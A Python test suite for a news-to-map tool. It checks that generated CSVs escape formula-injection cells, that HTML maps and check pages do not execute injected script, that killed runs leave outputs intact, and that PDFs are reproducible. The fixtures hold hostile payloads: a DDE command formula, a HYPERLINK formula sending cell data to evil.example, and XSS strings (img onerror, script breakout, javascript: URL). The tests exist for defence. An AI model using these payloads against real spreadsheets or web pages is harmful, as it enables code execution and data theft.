"""Security of the outputs: formula injection in CSV files, script injection in the pages,
killed runs and stale files, byte-identical PDFs."""

from __future__ import annotations

import csv
import json
import re
import shutil
import signal
import subprocess
import sys
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from geomap.cli import main
from geomap.writing import (
    FORMULA_START,
    read_csv_rows,
    spreadsheet_cell,
    spreadsheet_value,
    write_csv,
)

from .browser import page_with_log
from .conftest import CORPUS, ROOT

# -- helpers -------------------------------------------------------------------------------------

FORMULA_DOC = "=cmd|' calc'!A1"
FORMULA_DOC2 = "@SUM(1+1)"
FORMULA_OUTLET = '=HYPERLINK("http://evil.example")'
FORMULA_SENTENCE = '=HYPERLINK("http://evil.example/?x="&A1,"Clashes") Clashes erupted in Aleppo.'


def formula_corpus(folder: Path) -> Path:
    """Two seed articles whose file names, manifest fields and text start like formulas."""
    folder.mkdir(parents=True, exist_ok=True)
    seeds = sorted(CORPUS.glob("*.txt"))
    (folder / f"{FORMULA_DOC}.txt").write_text(seeds[0].read_text(encoding="utf-8"), "utf-8")
    (folder / f"{FORMULA_DOC2}.txt").write_text(
        seeds[3].read_text(encoding="utf-8")
        + f"\n{FORMULA_SENTENCE}\n-2+3 people were killed in Homs on Friday.\n",
        encoding="utf-8",
    )
    with open(folder / "manifest.csv", "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["file", "published", "dateline", "outlet", "wire"])
        w.writerow([f"{FORMULA_DOC}.txt", "2012-07-26", "+ALEPPO", FORMULA_OUTLET, "@AFP"])
        w.writerow([f"{FORMULA_DOC2}.txt", "2012-07-21", "-DAMASCUS", "-Reuters", "+x"])
    return folder


# -- 7. formula injection in CSV -----------------------------------------------------------------


def test_spreadsheet_cell_neutralises_strings_and_keeps_numbers() -> None:
    for bad in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "-", "=", "+cmd"):
        assert spreadsheet_cell(bad) == "'" + bad
        assert spreadsheet_value(spreadsheet_cell(bad)) == bad
    for number in ("-0.50000", "-3", "+4.5", "-1e-3", -0.5, -3, 0.0):
        assert spreadsheet_cell(number) == number
    for fine in ("Aleppo", "", "a=b", "it's", "'quoted'"):
        assert spreadsheet_cell(fine) == fine
    # a value that already starts with an apostrophe before a trigger reads back exactly
    for tricky in ("'=1+1", "''-x"):
        assert spreadsheet_value(spreadsheet_cell(tricky)) == tricky


def test_write_csv_neutralises_string_cells_only(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    write_csv(path, ("a", "lon", "lat"), [{"a": "=2+5", "lon": -0.5, "lat": "-0.50000"}])
    assert path.read_text(encoding="utf-8").splitlines()[1] == "'=2+5,-0.5,-0.50000"
    assert read_csv_rows(path) == [{"a": "=2+5", "lon": "-0.5", "lat": "-0.50000"}]


def _assert_no_formula_cells(path: Path) -> int:
    n = 0
    with open(path, encoding="utf-8", newline="") as fh:
        for row in csv.reader(fh):
            for cell in row:
                n += 1
                if cell.startswith(FORMULA_START):
                    float(cell)  # only a plain number may start with + or -
    return n


def test_every_csv_the_build_writes_is_safe_for_spreadsheets(tmp_path: Path) -> None:
    corpus = formula_corpus(tmp_path / "corpus")
    out = tmp_path / "out"
    assert main(["build", str(corpus), "--out", str(out), "--no-png"]) == 0
    csvs = sorted(out.rglob("*.csv"))
    names = {p.relative_to(out).as_posix() for p in csvs}
    assert {
        "mentions.csv",
        "documents.csv",
        "check/check.csv",
        "report/data/mentions.csv",
        "report/data/documents.csv",
    } <= names
    for path in csvs:
        assert _assert_no_formula_cells(path) > 0
    text = (out / "documents.csv").read_text(encoding="utf-8")
    assert "'=cmd|' calc'!A1" in text and "'@SUM(1+1)" in text and "'-Reuters" in text
    assert "'+ALEPPO" in text and "'@AFP" in text and "'=HYPERLINK" in text
    check = (out / "check" / "check.csv").read_text(encoding="utf-8")
    assert "\"'=HYPERLINK(" in check
    # read back by geomap: the exact values
    docs = {r["doc"]: r for r in read_csv_rows(out / "documents.csv")}
    assert set(docs) == {FORMULA_DOC, FORMULA_DOC2}
    assert docs[FORMULA_DOC]["outlet"] == FORMULA_OUTLET
    # GeoJSON and GeoPackage keep the values exactly
    fc = json.loads((out / "events.geojson").read_text(encoding="utf-8"))
    sources = [s for f in fc["features"] for s in f["properties"]["sources"]]
    assert {s["doc"] for s in sources} == {FORMULA_DOC, FORMULA_DOC2}
    assert FORMULA_OUTLET in {s["outlet"] for s in sources}
    pyogrio = pytest.importorskip("pyogrio")
    mentions = pyogrio.read_dataframe(out / "geomap.gpkg", layer="mentions")
    assert set(mentions["doc"]) == {FORMULA_DOC, FORMULA_DOC2}
    # the report found its documents through the neutralised documents.csv
    assert "2 articles" in (out / "report" / "report.html").read_text(encoding="utf-8")


# -- 11. report.pdf is byte-identical across runs ------------------------------------------------


def _xref_is_valid(pdf: bytes) -> bool:
    """Every object the cross-reference table lists starts where the table says."""
    start = int(re.search(rb"startxref\s+(\d+)\s+%%EOF\s*$", pdf).group(1))  # type: ignore[union-attr]
    head = re.compile(rb"xref\s+0 (\d+)\s+").match(pdf, start)
    assert head is not None
    pos = head.end()
    for i in range(int(head.group(1))):
        entry = pdf[pos : pos + 20]
        pos += 20
        if entry[17:18] == b"n" and not pdf[int(entry[:10]) :].startswith(b"%d 0 obj" % i):
            return False
    return True


def test_report_pdf_is_byte_identical_across_runs_and_folders(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    first, second = tmp_path / "one" / "out", tmp_path / "two" / "elsewhere"
    assert main(["build", str(CORPUS), "--out", str(first)]) == 0
    time.sleep(1.1)  # a PDF date to the second would differ now
    assert main(["build", str(CORPUS), "--out", str(second)]) == 0
    a = (first / "report" / "report.pdf").read_bytes()
    b = (second / "report" / "report.pdf").read_bytes()
    assert a == b
    assert b"/CreationDate (D:20160930000000" in a  # the last day of the events
    assert str(tmp_path).encode() not in a  # links are relative, no build path inside
    assert b"/URI (check.html)" in a
    assert _xref_is_valid(a)
    info = subprocess.run(["pdfinfo", str(first / "report" / "report.pdf")], capture_output=True)
    assert info.returncode == 0 and b"Pages:" in info.stdout and not info.stderr


def test_source_date_epoch_sets_the_pdf_dates(monkeypatch: pytest.MonkeyPatch) -> None:
    from geomap.render.browser import deterministic_pdf, source_date

    monkeypatch.setenv("SOURCE_DATE_EPOCH", "946684800")
    when = source_date(datetime(2016, 9, 30, tzinfo=UTC))
    pdf = b"%PDF-1.4\n1 0 obj\n<</CreationDate (D:20261201162754+00'00')>>\nendobj\n"
    assert deterministic_pdf(pdf, when) == pdf.replace(b"20261201162754", b"20000101000000")


# -- 6. script injection through gazetteer names, corrections, articles and crafted files -------

PWN_IMG = '<img src=x onerror="window.__pwned=1">'
PWN_SCRIPT = '"><script>window.__pwned=1</script>'
PWN_URL = "javascript:window.__pwned=1"


def poisoned_gazetteer(folder: Path) -> Path:
    """A copy of the gazetteer whose names (places.csv and names.csv) and corrections carry
    script; the real names stay in names.csv so that resolution still finds the places."""
    shutil.copytree(ROOT / "gazetteer", folder)
    poison = {"C1007": PWN_IMG, "SY02": PWN_SCRIPT, "C1002": PWN_URL}
    with open(folder / "places.csv", encoding="utf-8", newline="") as fh:
        reader = csv.DictReader(fh)
        fields, rows = list(reader.fieldnames or []), list(reader)
    for row in rows:
        if row["id"] in poison:
            row["name"] = f"{row['name']} {poison[row['id']]}"
    with open(folder / "places.csv", "w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=fields, lineterminator="\n")
        w.writeheader()
        w.writerows(rows)
    with open(folder / "names.csv", "a", encoding="utf-8", newline="") as fh:
        w2 = csv.writer(fh, lineterminator="\n")
        for pid, payload in poison.items():
            w2.writerow([pid, f"Poison {payload}", "en", f"test {PWN_IMG}"])
    with open(folder / "corrections.csv", "a", encoding="utf-8", newline="") as fh:
        w2 = csv.writer(fh, lineterminator="\n")
        w2.writerow([PWN_IMG, PWN_SCRIPT, "C1007", PWN_URL])
        w2.writerow(["000_a20a687b110743f1", "Aleppo", "C1007", PWN_IMG])
    return folder


def poisoned_corpus(folder: Path) -> Path:
    folder.mkdir(parents=True)
    seeds = sorted(CORPUS.glob("*.txt"))
    extra = f"\nClashes erupted in Aleppo on Friday {PWN_IMG} {PWN_SCRIPT} {PWN_URL}.\n"
    (folder / seeds[0].name).write_text(seeds[0].read_text(encoding="utf-8") + extra, "utf-8")
    odd = f"{PWN_IMG.replace('/', '')}.txt"
    (folder / odd).write_text(seeds[3].read_text(encoding="utf-8") + extra, "utf-8")
    with open(folder / "manifest.csv", "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(["file", "published", "dateline", "outlet", "wire"])
        w.writerow([seeds[0].name, "2012-07-26", PWN_SCRIPT, PWN_IMG, PWN_URL])
        w.writerow([odd, "2012-07-21", PWN_IMG, PWN_URL, PWN_SCRIPT])
    return folder


#: Run in a page after it was used: no injected element, handler or link is in the document.
NO_INJECTION = """() => window.__pwned === undefined
    && document.querySelectorAll('[onerror]').length === 0
    && document.querySelectorAll('a[href^="javascript:" i]').length === 0"""


def _use_map(frame: Any) -> str:
    """Open every popup, then open the layer control and switch every entry; the labels."""
    frame.wait_for_function("window.geomapReady === true", timeout=60_000)
    frame.evaluate(
        """() => { for (const api of Object.values(window.geomapMaps)) {
            const n = Object.values(api.countByDay()).reduce((a, b) => a + b, 0);
            for (let i = 0; i < n; i++) { api.openPopup(i); }
        } }"""
    )
    frame.hover(".leaflet-control-layers")  # a real hover expands the control
    frame.evaluate(
        """() => { for (const label of document.querySelectorAll(
            '.leaflet-control-layers-list label')) {
            label.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
            label.click(); label.click();
        } }"""
    )
    text: str = frame.evaluate("document.querySelector('.leaflet-control-layers-list').textContent")
    frame.wait_for_timeout(300)
    return text


def _use_check_page(page: Any) -> list[str]:
    """Click every row; hover every place on the small map, really and by event; the tooltips."""
    page.wait_for_function("window.geomapCheckReady === true", timeout=60_000)
    tips: list[str] = page.evaluate(
        """() => {
        const tips = [];
        for (const row of document.querySelectorAll('#mentions tbody tr')) {
            row.click();
            for (const p of document.querySelectorAll('#mini .leaflet-interactive')) {
                p.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
                for (const t of document.querySelectorAll('.leaflet-tooltip')) {
                    tips.push(t.textContent);
                }
                p.dispatchEvent(new MouseEvent('mouseout', {bubbles: true}));
            }
        }
        return tips;
    }"""
    )
    rows = page.locator("#mentions tbody tr")
    for i in range(min(rows.count(), 5)):
        rows.nth(i).click()
        for j in range(page.locator("#mini .leaflet-interactive").count()):
            place = page.locator("#mini .leaflet-interactive").nth(j)
            box = place.bounding_box()
            viewport = page.viewport_size or {"width": 0, "height": 0}
            if box is None or not (
                0 <= box["x"] + box["width"] / 2 < viewport["width"]
                and 0 <= box["y"] + box["height"] / 2 < viewport["height"]
            ):
                continue  # panned out of the small map: the dispatched events above reach it
            place.hover(force=True, timeout=5_000)
    page.wait_for_timeout(300)
    return tips


def _check_clean(page: Any, errors: list[str]) -> None:
    for frame in page.frames:
        assert frame.evaluate(NO_INJECTION), frame.url
    assert not [e for e in errors if e.startswith("dialog")]


def test_poisoned_gazetteer_corrections_and_articles_run_no_script(tmp_path: Path) -> None:
    gaz = poisoned_gazetteer(tmp_path / "gazetteer")
    corpus = poisoned_corpus(tmp_path / "corpus")
    out = tmp_path / "out"
    main(["--gazetteer", str(gaz), "build", str(corpus), "--out", str(out), "--no-png"])
    page_html = (out / "check" / "check.html").read_text(encoding="utf-8")
    assert "Aleppo &lt;img src=x" in page_html  # the poisoned name did reach the page
    with page_with_log() as (page, errors, _):
        for check in (out / "check" / "check.html", out / "report" / "check.html"):
            page.goto(check.as_uri())
            tips = _use_check_page(page)
            assert any(PWN_IMG in t for t in tips)  # shown as text
            assert any(PWN_SCRIPT in t for t in tips)
            _check_clean(page, errors)
        maps = [out / "index.html", *sorted((out / "dates").glob("*.html"))]
        maps += [out / "report" / "maps" / "index.html"]
        for path in maps:
            page.goto(path.as_uri())
            _use_map(page)
            _check_clean(page, errors)
        for path in (out / "embed.html", out / "report" / "report.html"):
            page.goto(path.as_uri())
            page.wait_for_timeout(500)
            for frame in page.frames[1:]:
                _use_map(frame)
            _check_clean(page, errors)
            assert page.evaluate("document.body.textContent").count("__pwned") >= (
                1 if path.name == "report.html" else 0
            )


def _crafted_feature(i: int, day: str) -> dict[str, Any]:
    return {
        "type": "Feature",
        "id": f"{PWN_IMG}{i}",
        "geometry": {"type": "Point", "coordinates": [37.1 + i * 0.01, 36.2]},
        "properties": {
            "id": f"{PWN_SCRIPT}{i}",
            "type": "battle",
            "sub_type": PWN_IMG,
            "date_start": PWN_SCRIPT,
            "date_end": day,
            "date_precision": PWN_IMG,
            "place_id": PWN_URL,
            "place_name": PWN_IMG,
            "place_kind": PWN_SCRIPT,
            "geo_precision": PWN_IMG,
            "precision_km": 1.0,
            "lat": 36.2,
            "lon": 37.1 + i * 0.01,
            "fatalities": 3,
            "actors": [PWN_IMG, PWN_URL],
            "attributed_to": [PWN_SCRIPT],
            "sources": [
                {
                    "doc": PWN_IMG,
                    "outlet": PWN_URL,
                    "published": PWN_SCRIPT,
                    "sentence": f"{PWN_IMG} {PWN_SCRIPT}",
                    "start": 0,
                    "end": 5,
                }
            ],
        },
    }


def test_crafted_events_geojson_runs_no_script_in_maps(tmp_path: Path) -> None:
    extract = tmp_path / "extract"
    extract.mkdir()
    crafted_days = [f"2012-07-26{PWN_IMG}", PWN_SCRIPT, PWN_URL]
    features = [_crafted_feature(i, d) for i, d in enumerate([*crafted_days, "2012-07-26"])]
    # one feature that fits geomap's schema, with payloads in every string it may carry
    good = _crafted_feature(len(features), "2012-07-26")
    good["properties"].update(date_start="2012-07-26", date_precision="day")
    good["properties"]["sources"][0]["published"] = None
    features.append(good)
    (extract / "events.geojson").write_text(
        json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8"
    )
    out = tmp_path / "maps"
    assert main(["maps", str(extract), "--out", str(out), "--no-png"]) == 0
    # features whose dates are no dates are left out (reported); no file is named after them
    assert sorted(p.name for p in (out / "dates").iterdir()) == ["2012-07-26.html"]
    with page_with_log() as (page, errors, _):
        page.goto((out / "index.html").as_uri())
        labels = _use_map(page)
        for day in crafted_days:
            assert day not in labels
        popup = page.evaluate("window.geomapMaps['index'].openPopup(0).textContent")
        assert PWN_IMG in popup  # shown as text
        _check_clean(page, errors)
        for path in (out / "dates" / "2012-07-26.html", out / "embed.html"):
            page.goto(path.as_uri())
            page.wait_for_timeout(300)
            if path.name == "embed.html":
                _use_map(page.frames[1])
            else:
                _use_map(page)
            _check_clean(page, errors)


# -- 5. a killed run keeps the previous outputs; leftovers and stale files are removed ---------

KILL_AT = r"""
import os, sys, time
target = sys.argv[1]
real = os.replace
def slow(src, dst, *args, **kwargs):
    if str(dst).endswith(target):
        data = open(src, "rb").read()
        with open(src, "wb") as fh:
            fh.write(data[: len(data) // 2])  # the temporary file is half written
        print("AT", flush=True)
        time.sleep(600)
    return real(src, dst, *args, **kwargs)
os.replace = slow
import shutil
real_copy = shutil.copyfile
def slow_copy(src, dst, *args, **kwargs):
    if str(dst).endswith(target):  # a copy straight onto the output, killed halfway
        data = open(src, "rb").read()
        with open(dst, "wb") as fh:
            fh.write(data[: len(data) // 2])
        print("AT", flush=True)
        time.sleep(600)
    return real_copy(src, dst, *args, **kwargs)
shutil.copyfile = slow_copy
import geomap.writing
geomap.writing._same_file_content = lambda new, old: False  # every write goes through a rename
from geomap.cli import main
sys.exit(main(sys.argv[2:]))
"""


def _snapshot(out: Path) -> dict[str, bytes]:
    return {
        p.relative_to(out).as_posix(): p.read_bytes()
        for p in out.rglob("*")
        if p.is_file() and not any(s.startswith(".") for s in p.relative_to(out).parts)
    }


def _temp_files(out: Path) -> list[str]:
    return sorted(p.name for p in out.rglob("*") if ".tmp." in p.name)


def _subset_corpus(folder: Path, n: int) -> Path:
    folder.mkdir(parents=True)
    seeds = sorted(CORPUS.glob("*.txt"))[:n]
    lines = (CORPUS / "manifest.csv").read_text(encoding="utf-8").splitlines(keepends=True)
    keep = {p.name for p in seeds}
    (folder / "manifest.csv").write_text(
        lines[0] + "".join(line for line in lines[1:] if line.split(",")[0] in keep), "utf-8"
    )
    for p in seeds:
        shutil.copyfile(p, folder / p.name)
    return folder


def _assert_old_or_new(out: Path, old: dict[str, bytes], new: dict[str, bytes]) -> None:
    import pyogrio

    now = _snapshot(out)
    for rel in old:
        assert rel in now or rel not in new, f"{rel} vanished"
    for rel, data in now.items():
        assert data in (old.get(rel), new.get(rel)), f"{rel}: neither the old nor the new file"
        if rel.endswith(".gpkg"):
            assert {"events", "mentions", "places"} <= {
                name for name, _ in pyogrio.list_layers(out / rel)
            }
        elif rel.endswith(".html"):
            assert data.rstrip().endswith(b"</html>"), rel


def test_a_killed_build_leaves_every_output_old_or_new(tmp_path: Path) -> None:
    small = _subset_corpus(tmp_path / "small", 3)
    out, ref = tmp_path / "out", tmp_path / "ref"
    assert main(["build", str(small), "--out", str(out), "--no-png"]) == 0
    old = _snapshot(out)
    assert main(["build", str(CORPUS), "--out", str(ref), "--no-png"]) == 0
    new = _snapshot(ref)
    assert old["report/data/geomap.gpkg"] != new["report/data/geomap.gpkg"]
    assert old["report/check.html"] != new["report/check.html"]
    targets = [
        "report/data/geomap.gpkg",
        "report/check.html",
        "report/data/mentions.csv",
        "report/report.html",
        "report/maps/dates/2012-07-26.html",
        "check/check.html",
        "geomap.gpkg",
    ]
    for target in targets:
        proc = subprocess.Popen(
            [sys.executable, "-c", KILL_AT, target, "build", str(CORPUS), "--out", str(out)]
            + ["--no-png"],
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
        )
        assert proc.stdout is not None
        assert proc.stdout.readline().strip() == b"AT", target
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        proc.stdout.close()
        # the target is whole: the previous file (or a new one from an earlier kill)
        assert _snapshot(out)[target] in (old[target], new[target]), target
        assert _temp_files(out)  # the killed run's temporary file is left behind ...
        _assert_old_or_new(out, old, new)
    # ... and kills at whatever point the run has reached
    for delay in (0.3, 0.8, 1.4):
        proc = subprocess.Popen(
            [sys.executable, "-m", "geomap", "build", str(CORPUS), "--out", str(out), "--no-png"],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        time.sleep(delay)
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        _assert_old_or_new(out, old, new)
    # the next run removes every temporary file and writes the new outputs
    assert main(["build", str(CORPUS), "--out", str(out), "--no-png"]) == 0
    assert _temp_files(out) == []
    assert _snapshot(out) == new


def _day_feature(i: int, day: str) -> dict[str, Any]:
    f = _crafted_feature(i, day)
    p = f["properties"]
    p.update(
        {
            "id": f"e{i}",
            "sub_type": "",
            "date_start": day,
            "date_precision": "day",
            "place_id": f"P{i}",
            "place_name": f"Place {i}",
            "place_kind": "city",
            "geo_precision": "point",
            "actors": [],
            "attributed_to": [],
            "sources": [],
        }
    )
    return f


def test_stale_day_maps_and_leftover_temp_files_are_removed(tmp_path: Path) -> None:
    extract, out = tmp_path / "extract", tmp_path / "maps"
    extract.mkdir()

    def run(days: list[str]) -> None:
        fc = {
            "type": "FeatureCollection",
            "features": [_day_feature(i, d) for i, d in enumerate(days)],
        }
        (extract / "events.geojson").write_text(json.dumps(fc), encoding="utf-8")
        assert main(["maps", str(extract), "--out", str(out), "--no-png"]) == 0

    run(["2012-07-20", "2012-07-21", "2012-07-22"])
    assert len(list((out / "dates").glob("*.html"))) == 3
    # files that are not ours, or not in the record, stay whatever their names
    (out / "dates" / "notes.html").write_text("mine", encoding="utf-8")
    (out / "dates" / "2011-01-01.html").write_text("mine too", encoding="utf-8")
    (tmp_path / "outside.html").write_text("not in OUT", encoding="utf-8")
    record = json.loads((out / ".geomap-files.json").read_text(encoding="utf-8"))
    record["stages"]["maps"] += ["../outside.html", str(tmp_path / "outside.html"), "dates"]
    (out / ".geomap-files.json").write_text(json.dumps(record), encoding="utf-8")
    # leftovers of a killed run, with every temporary name the code uses; and look-alikes
    leftovers = [
        ".index.tmp.png",
        ".report.tmp.pdf",
        ".geomap.k2j4h1x_.tmp.gpkg",
        ".geomap.k2j4h1x_.tmp.gpkg-journal",
        "dates/.2012-07-20.abcdefgh.tmp.html",
        "dates/.2012-07-20.tmp.png",
        "check/.check.abcdefgh.tmp.csv",
        "report/data/.mentions.zzzzzzzz.tmp.csv",
        ".geomap-files.json.tmp",
    ]
    mine = ["dates/notes.tmp.html", ".keep.tmp", "check/.notes.tmp.txt"]
    for rel in leftovers + mine:
        (out / rel).parent.mkdir(parents=True, exist_ok=True)
        (out / rel).write_bytes(b"half")
    run(["2012-07-20"])
    assert sorted(p.name for p in (out / "dates").iterdir()) == [
        "2011-01-01.html",
        "2012-07-20.html",
        "notes.html",
        "notes.tmp.html",
    ]
    assert (tmp_path / "outside.html").is_file()
    for rel in leftovers[:-1]:
        assert not (out / rel).exists(), rel
    for rel in [*mine, ".geomap-files.json.tmp"]:
        assert (out / rel).exists(), rel
    record = json.loads((out / ".geomap-files.json").read_text(encoding="utf-8"))
    assert record["stages"]["maps"] == ["dates/2012-07-20.html", "embed.html", "index.html"]


def test_a_failed_stage_keeps_the_files_of_the_last_run(tmp_path: Path) -> None:
    from geomap.writing import atomic_write, output_run

    with output_run(tmp_path, "maps"):
        atomic_write(tmp_path / "a.html", "a")
        atomic_write(tmp_path / "b.html", "b")
    with pytest.raises(RuntimeError), output_run(tmp_path, "maps"):
        atomic_write(tmp_path / "c.html", "c")
        raise RuntimeError("stopped")
    assert {p.name for p in tmp_path.glob("*.html")} == {"a.html", "b.html", "c.html"}
    with output_run(tmp_path, "other"):  # another stage's record is not this one's
        atomic_write(tmp_path / "d.html", "d")
    with output_run(tmp_path, "maps"):
        atomic_write(tmp_path / "c.html", "c")
    assert {p.name for p in tmp_path.glob("*.html")} == {"c.html", "d.html"}
